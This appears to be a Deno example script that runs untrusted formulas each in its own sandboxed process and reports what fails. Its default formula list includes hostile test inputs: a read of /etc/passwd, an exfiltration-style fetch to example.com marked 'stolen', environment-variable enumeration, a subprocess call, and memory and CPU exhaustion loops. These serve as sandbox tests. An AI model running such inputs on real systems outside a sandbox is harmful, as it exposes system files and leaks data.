/**
 * Evaluates formulas that nobody has looked at. Each runs in a process of its own that may do nothing: what one of them
 * tries to read, send, use up or never end fails that one.
 *
 *     deno run --allow-read=. --allow-write=examples/sandboxed/output --allow-run examples/sandboxed/main.ts
 *
 * Formulas may be given in place of those below; `--output` says where outputs are kept.
 *
 * @module
 */

import * as sd from "@stardag/core";
import { parseArgs } from "node:util";
import { evaluate } from "./tasks.ts";

const FORMULAS = [
  "6 * 7",
  "Math.hypot(3, 4)",
  `(await Deno.readTextFile("/etc/passwd")).length`,
  `(await fetch("https://example.com/?stolen=1")).status`,
  `Object.keys(Deno.env.toObject()).length`,
  `(await new Deno.Command("ls").output()).code`,
  "(() => { const all = []; for (;;) all.push(new Array(1e5).fill(all.length + 0.5)); })()",
  "(() => { for (;;); })()",
  "Deno.exit(0)",
  "one + 1",
];

if (import.meta.main) {
  const { values, positionals } = parseArgs({
    allowPositionals: true,
    options: { output: { type: "string", default: new URL("output", import.meta.url).href } },
  });
  sd.targetFactoryProvider.set(new sd.TargetFactory({ targetRoots: { default: values.output } }));
  await using executor = new sd.HybridConcurrentTaskExecutor();
  const formulas = positionals.length > 0 ? positionals : FORMULAS;
  const tasks = formulas.map((expression) => evaluate({ expression }));
  const summary = await sd.build(tasks, { executor, failMode: "continue" });
  const errors = new Map(summary.errors.map((error) => [error.taskId, error]));
  for (const each of tasks) {
    const error = errors.get(each.id)?.cause as Error | undefined;
    console.log(`${each.expression}\n    ${error?.message ?? `= ${await each.load()}`}`);
  }
}
